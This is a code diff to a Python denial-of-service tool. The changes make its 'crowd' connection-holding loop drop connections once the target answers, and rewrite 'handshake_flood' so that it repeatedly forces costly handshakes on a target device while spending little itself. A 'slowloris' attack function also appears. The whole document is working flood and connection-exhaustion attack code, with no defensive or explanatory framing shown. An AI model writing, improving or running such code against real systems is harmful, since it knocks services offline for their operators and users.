@@ -49,8 +49,9 @@ def hello():
     return outgoing.read()
 
 
-def crowd(target, first=b"", pause=0.02):
-    """Keeps so many raw connections open; each sends `first` and then nothing. Those that are closed come again."""
+def crowd(target, first=b"", stays=True, pause=0.02):
+    """Keeps so many raw connections open; each sends `first` and then nothing. Those that are closed come again, and those
+    that are answered, where they do not stay."""
     members = []
     while target.goes_on():
         while len(members) < AT_ONCE and target.goes_on():
@@ -65,7 +66,7 @@ def crowd(target, first=b"", pause=0.02):
             try:
                 if its in ready[1]:
                     member[1] = rest[its.send(rest):]
-                if its in ready[0] and not its.recv(65536):
+                if its in ready[0] and not (its.recv(65536) and stays):
                     raise ConnectionError
             except BlockingIOError:
                 pass
@@ -112,10 +113,8 @@ def stream(target):
 
 
 def handshake_flood(target):
-    while target.goes_on():
-        if (its := stream(target)) is not None:
-            its.close()
-        time.sleep(0.001)
+    """The device has done its costly part when it answers; this one has done nothing."""
+    crowd(target, hello(), stays=False)
 
 
 def slowloris(target):
